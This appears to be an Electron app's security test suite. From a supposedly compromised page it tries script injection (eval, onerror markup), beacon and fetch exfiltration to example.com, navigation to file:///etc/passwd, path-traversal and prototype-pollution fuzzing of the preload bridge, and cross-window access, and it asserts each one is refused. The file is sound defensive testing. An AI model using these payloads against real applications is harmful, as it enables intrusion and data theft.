import { fileURLToPath } from 'node:url';
import { afterEach, describe, expect, it } from 'vitest';
import { describeDesktop } from './describe-desktop.ts';
import { describeWindow } from './describe-window.ts';

/*
 * What a page that was taken over might try, against the window that runs, by Electron's "Security", the checklist. Each
 * attempt is named by what it does in the page. Where each rule is held:
 *
 *  1 secure content only ........... here: a remote script, picture, style sheet, fetch, socket; app-protocol.test.ts
 *  2 no Node for remote content .... security.test.ts: no Node in the page, options
 *  3 context isolation ............. security.test.ts: options, functions that nobody can replace
 *  4 sandbox ....................... security.test.ts: options (the sandbox itself is Electron's)
 *  5 permissions ................... here; security.test.ts, host-app.test.ts; guards.test.ts
 *  6 webSecurity ................... security.test.ts: options
 *  7 content security policy ....... here: all of CODE; app-protocol.test.ts
 *  8 no insecure content ........... security.test.ts: options
 *  9 no experimental features ...... security.test.ts: options
 * 10 no Blink features ............. security.test.ts: options
 * 11 no pop-ups of a <webview> ..... here: a <webview>
 * 12 options of a <webview> ........ here: a <webview>; guards.test.ts
 * 13 navigation .................... here: WAYS, what is dropped; guards.test.ts
 * 14 new windows ................... here: WAYS; guards.test.ts
 * 15 shell.openExternal ............ security.test.ts: main hands nothing to the shell
 * 16 a current Electron ............ package.json names one exact version
 * 17 senders of messages ........... here: another world; lab-host.test.ts, embed.test.ts
 * 18 no file: pages ................ here: a file of the disk; app-protocol.test.ts
 * 19 fuses ......................... packaging.test.ts: options (the fuses themselves are Electron's)
 * 20 no Electron API to the page ... security.test.ts: eight functions, and nothing of Electron in the page
 */
const CODE = {
  eval: () => {
    // biome-ignore lint/security/noGlobalEval: the attack
    setTimeout(() => window.eval('window.wasRun = 1'), 0); // later: the debugger itself may
  },
  'new Function': () => {
    setTimeout(() => new Function('window.wasRun = 1')(), 0);
  },
  'a timer with text': () => {
    // biome-ignore lint/suspicious/noExplicitAny: text in place of a function is the attack
    setTimeout(() => setTimeout('window.wasRun = 1' as any, 0), 0);
  },
  'an inline script': () => {
    const script = document.createElement('script');
    script.append(document.createTextNode('window.wasRun = 1'));
    document.body.append(script);
  },
  'a remote script': () => {
    document.body.append(Object.assign(document.createElement('script'), { src: 'https://example.com/x.js' }));
  },
  'a handler in markup': () => {
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.wasRun = 1');
    image.src = 'nowhere.png';
    document.body.append(image);
  },
  'markup that is set': () => {
    document.createElement('div').innerHTML = '<img src=x onerror="window.wasRun = 1">';
  },
  'a worker of its own text': () => {
    new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
  },
  'a page within the page': () => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.com/' }));
  },
  'the app within the page': () => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: location.href }));
  },
  'a page of its own text': () => {
    document.body.append(
      Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.wasRun=1</script>' }),
    );
  },
  'a plug-in': () => {
    document.body.append(Object.assign(document.createElement('object'), { data: 'https://example.com/x.swf' }));
  },
  'a fetch': () => void fetch('https://example.com/').catch(() => undefined),
  'a web socket': () => void new WebSocket('wss://example.com/'),
  'a stream of events': () => void new EventSource('https://example.com/'),
  'a beacon': () => void navigator.sendBeacon('https://example.com/', 'stolen'),
  'a picture': () => {
    document.body.append(Object.assign(document.createElement('img'), { src: 'https://example.com/?stolen' }));
  },
  'a style sheet': () => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://example.com/x.css' }),
    );
  },
  'a form': () => {
    const form = Object.assign(document.createElement('form'), { action: 'https://example.com/', method: 'post' });
    document.body.append(form);
    form.submit();
  },
} as const;

/** Ways to another page, or to another window. A `blob:` page is for main's guard alone: see test/main/guards.test.ts. */
const WAYS = {
  'a location': () => location.assign('https://example.com/'),
  'a file of the disk': () => location.assign('file:///etc/passwd'),
  'a page of data': () => location.assign('data:text/html,<h1>theirs</h1>'),
  'a script for an address': () => location.assign('javascript:window.wasRun=1'),
  'a link': () => {
    const link = Object.assign(document.createElement('a'), { href: 'https://example.com/' });
    document.body.append(link);
    link.click();
  },
  'a link to another window': () => {
    const link = Object.assign(document.createElement('a'), { href: 'https://example.com/', target: '_blank' });
    document.body.append(link);
    link.click();
  },
  'a refresh': () => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = '0;url=https://example.com/';
    document.head.append(meta);
  },
  'window.open': () => void window.open('https://example.com/'),
  'window.open of nothing': () => void window.open(''),
} as const;

describeDesktop('attacks on the window', (desktop) => {
  afterEach(async () => {
    const { page, main } = desktop();
    const after = {
      url: page.url(),
      windows: await main.windowCount(),
      wasRun: await page.evaluate(() => 'wasRun' in window),
    };
    await page.reload();
    await page.getByRole('main').waitFor();
    expect(after).toEqual({ url: expect.stringMatching(/^[^?]*\/index\.html(?:#.*)?$/), windows: 1, wasRun: false });
  });

  it.each(Object.entries(CODE))(
    '%s is refused by the content policy, or by the types that it wants',
    async (_, attack) => {
      const { page } = desktop();
      await page.evaluate(() => {
        const seen: string[] = [];
        (window as unknown as { seen: string[] }).seen = seen;
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
      });
      const refused = () => page.evaluate(() => (window as unknown as { seen: string[] }).seen);
      // A throw is a refusal as well, and the policy is told of both.
      await page.evaluate(attack).catch(() => undefined);
      await expect.poll(refused).not.toEqual([]);
    },
  );

  it.each(Object.entries(WAYS))('%s leads nowhere', async (_, attack) => {
    const { page } = desktop();
    const before = page.url();
    await page.evaluate(attack).catch(() => undefined);
    await page.waitForTimeout(250); // nothing is to happen: there is nothing to wait for
    expect(page.url()).toBe(before);
    await page.getByRole('heading', { name: 'Trail' }).waitFor();
  });

  it('a <webview> is an element that does nothing, and main lets none be attached', async () => {
    const { page, main } = desktop();
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const found = await page.evaluate(() => {
      const view = document.createElement('webview');
      const attributes = { src: 'https://example.com/', nodeintegration: '', allowpopups: '', disablewebsecurity: '' };
      for (const [name, value] of Object.entries(attributes)) view.setAttribute(name, value);
      document.body.append(view);
      return { hasGuest: 'getWebContentsId' in view, shadow: view.shadowRoot !== null };
    });
    expect(found).toEqual({ hasGuest: false, shadow: false });
    expect(await main.letsAttachWebview(page)).toBe(false);
    await page.evaluate(() => fetch('/nothing.js').catch(() => undefined)); // what was asked before it has been heard of
    expect(asked.filter((url) => url.includes('example.com'))).toEqual([]);
  });

  it('what asks for a permission is denied it', async () => {
    const denied = await desktop().page.evaluate(async () => {
      const refusal = (asked: Promise<unknown>) =>
        asked.then(
          (answer) => String(answer),
          (error: unknown) => (error instanceof Error ? error.name : 'denied'),
        );
      return Promise.all([
        refusal(Notification.requestPermission()),
        refusal(new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, () => reject(0)))),
        refusal(navigator.mediaDevices.getUserMedia({ audio: true })),
        refusal(navigator.clipboard.readText()),
      ]);
    });
    expect(denied).toEqual([
      expect.stringMatching(/denied|default/),
      'denied',
      expect.stringMatching(/Not(Allowed|Found)Error/),
      'NotAllowedError',
    ]);
  });

  describe('through the bridge', () => {
    it('garbage is answered with an error that tells nothing of the inside, and the lab goes on', async () => {
      const answers = await desktop().page.evaluate(async () => {
        type Ask = (message: unknown) => Promise<unknown>;
        const { call, ask, act, desk } = (window as unknown as { kmslab: Record<string, Ask> }).kmslab;
        let state = 7;
        const below = (count: number): number => {
          state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
          return (state >>> 8) % count;
        };
        const words = [
          'type',
          '__proto__',
          'constructor',
          'prototype',
          'view',
          'call',
          'path',
          'key',
          'toString',
          'at',
        ];
        const leaves = [
          null,
          undefined,
          0,
          -1,
          2 ** 53,
          Number.NaN,
          '',
          '../../etc/passwd',
          '\u0000',
          true,
          new Date(0),
          [],
          {},
        ];
        const made = (depth: number): unknown => {
          if (depth === 0 || below(3) === 0) return leaves[below(leaves.length)];
          if (below(4) === 0) return Array.from({ length: below(4) }, () => made(depth - 1));
          const of: Record<string, unknown> = {};
          for (let n = below(4); n >= 0; n -= 1)
            Object.defineProperty(of, words[below(words.length)] ?? '', {
              value: made(depth - 1),
              enumerable: true,
              configurable: true,
              writable: true,
            });
          return of;
        };
        const circle: Record<string, unknown> = { type: 'view' };
        circle.self = circle;
        const said: unknown[] = [];
        const all = [
          ...Array.from({ length: 300 }, () => made(4)),
          'x'.repeat(4_000_000),
          { type: 'view', at: 'x'.repeat(4_000_000) },
          circle,
          new Map([['type', 'view']]),
          { type: 'getFile', name: '/etc/passwd' },
          { type: 'getFile', name: '../../../../etc/passwd' },
          { type: 'lesson', does: 'start', lesson: '../../etc/passwd' },
          { type: 'replay', does: 'open', name: '/etc/passwd' },
        ];
        for (const message of all)
          for (const way of [call, ask, act, desk]) {
            try {
              said.push(await way?.(message));
            } catch (error) {
              said.push({ ok: false, error: { name: 'thrown', message: String(error) } }); // it can't be cloned
            }
          }
        return {
          said: said.map((answer) => JSON.stringify(answer) ?? 'undefined'),
          isPolluted: ['type', 'view', 'path'].some((name) => name in {}),
        };
      });
      expect(answers.isPolluted).toBe(false);
      for (const answer of answers.said) {
        expect(answer).not.toMatch(/root:x:|\n? +at \S+ \(|node_modules|dist[\\/]/);
        expect(answer.length).toBeLessThan(200_000);
      }
      const refused = answers.said.filter((answer) => answer.includes('"ok":false')).length;
      expect(refused).toBeGreaterThan(answers.said.length * 0.9);
      await desktop().page.getByRole('heading', { name: 'Trail' }).waitFor();
    }, 120_000);

    it('no name of another world, of its windows or its things leads out of the window’s own', async () => {
      const { page, main } = desktop();
      const secret = await page.evaluate(makeSecret);
      await main.clickMenu('world-new');
      const other = await desktop().nextWindow();
      await other.getByRole('main').waitFor();
      const said = await other.evaluate(reachFor, secret);
      expect(said.answers.filter((answer) => answer.ok)).toEqual([]);
      expect(said.all).not.toContain('secret-of-the-first');
      expect(said.all).not.toContain(secret.keyId);
      expect(await page.evaluate(countKeys)).toBe(secret.keys);
      await main.focusWindow(other);
      await main.expectDialog('message', { response: 1 }); // where it is asked to be saved
      await main.closeWindow(other);
      await expect.poll(() => main.windowCount()).toBe(1);
      await main.dialogs();
    });
  });
});

/** What is dropped: files of the disk, and an address, as a browser's tab gives it. */
const DROPS = {
  'a file': { items: [], files: [fileURLToPath(import.meta.url)], dragOperationsMask: 1 },
  'an address': {
    items: [
      { mimeType: 'text/uri-list', data: 'https://example.com/' },
      { mimeType: 'text/plain', data: 'https://example.com/' },
    ],
    dragOperationsMask: 1,
  },
};

describeWindow('what is dropped onto the window', (shown) => {
  it.each(Object.entries(DROPS))('%s does not take its place', async (_, data) => {
    const { page } = shown();
    const before = page.url();
    const pages = page.context().pages().length;
    await page.evaluate(() => {
      const prevented: string[] = [];
      (window as unknown as { prevented: string[] }).prevented = prevented;
      for (const type of ['dragover', 'drop'])
        window.addEventListener(type, (event) => event.defaultPrevented && prevented.push(type));
    });
    const cdp = await page.context().newCDPSession(page);
    for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
      await cdp.send('Input.dispatchDragEvent', { type, x: 500, y: 300, data });
    // Who drags is told that it can't be dropped here; a browser that is not told goes to what is dropped.
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { prevented: string[] }).prevented))
      .toContain('dragover');
    expect(page.url()).toBe(before);
    expect(page.context().pages()).toHaveLength(pages);
  });
});

interface Secret {
  readonly keyId: string;
  readonly keyArn: string;
  readonly ciphertext: string;
  readonly keys: number;
}

/** Makes a key, and a ciphertext under it. Runs in the page. */
async function makeSecret(): Promise<Secret> {
  const { kmslab } = window as unknown as { kmslab: Bridge };
  const as = 'arn:aws:iam::111122223333:role/admin';
  const run = async (line: string) => {
    const { value } = await kmslab.act({ type: 'run', line, as, region: 'us-east-1' });
    return value?.run?.stdout?.trim() ?? '';
  };
  const keyArn = await run(
    'aws kms create-key --description secret-of-the-first --query KeyMetadata.Arn --output text',
  );
  const ciphertext = await run(
    `aws kms encrypt --key-id ${keyArn} --plaintext c2VjcmV0 --query CiphertextBlob --output text`,
  );
  const { value } = await kmslab.ask({ type: 'view' });
  return { keyId: keyArn.split('/')[1] ?? '', keyArn, ciphertext, keys: value?.keys?.length ?? 0 };
}

async function countKeys(): Promise<number> {
  const { kmslab } = window as unknown as { kmslab: Bridge };
  return (await kmslab.ask({ type: 'view' })).value?.keys?.length ?? 0;
}

/** Names another world in every way that a message has room for. Runs in the page. */
async function reachFor({ keyArn, keyId, ciphertext }: Secret) {
  const { kmslab } = window as unknown as { kmslab: Bridge };
  const as = 'arn:aws:iam::111122223333:role/admin';
  const here = { as, region: 'us-east-1' };
  const names = [
    'world',
    'worldId',
    'window',
    'windowId',
    'webContentsId',
    'sender',
    'lab',
    'seat',
    'file',
    'id',
    'of',
  ];
  const answers: Answer[] = [];
  for (const name of names)
    for (const value of [0, 1, 2, 'World in memory']) {
      answers.push(await kmslab.ask({ type: 'view', [name]: value }));
      answers.push(await kmslab.ask({ type: 'key', keyArn, [name]: value }));
      answers.push(await kmslab.act({ type: 'advance', by: 1, [name]: value }));
      answers.push(await kmslab.desk({ type: 'look', [name]: value }));
      answers.push(await kmslab.desk({ type: 'unlockRootKey', [name]: value }));
    }
  answers.push(await kmslab.desk({ type: 'exports', as, region: 'us-east-1' }));
  const lines = [
    `aws kms decrypt --ciphertext-blob ${ciphertext}`,
    `aws kms describe-key --key-id ${keyId}`,
    `aws kms disable-key --key-id ${keyArn}`,
  ];
  const own = [
    await kmslab.ask({ type: 'view' }),
    await kmslab.ask({ type: 'key', keyArn }),
    await kmslab.ask({ type: 'trail' }),
    await kmslab.desk({ type: 'look' }),
    ...(await Promise.all(lines.map((line) => kmslab.act({ type: 'run', line, ...here })))),
  ];
  const ran = own.flatMap(({ value }) => (value?.run === undefined ? [] : [value.run.exitCode === 0]));
  // What a refusal repeats of the question is no answer.
  const all = JSON.stringify([answers.map(({ ok }) => ok), own[0], own[1], own[2], own[3], ran]);
  return { answers: [...answers, ...ran.map((ok) => ({ ok }))], all };
}

interface Answer {
  readonly ok: boolean;
  readonly value?: {
    readonly keys?: readonly unknown[];
    readonly run?: { readonly stdout?: string; readonly exitCode?: number };
  };
}
type Bridge = Readonly<Record<'ask' | 'act' | 'desk', (message: object) => Promise<Answer>>>;
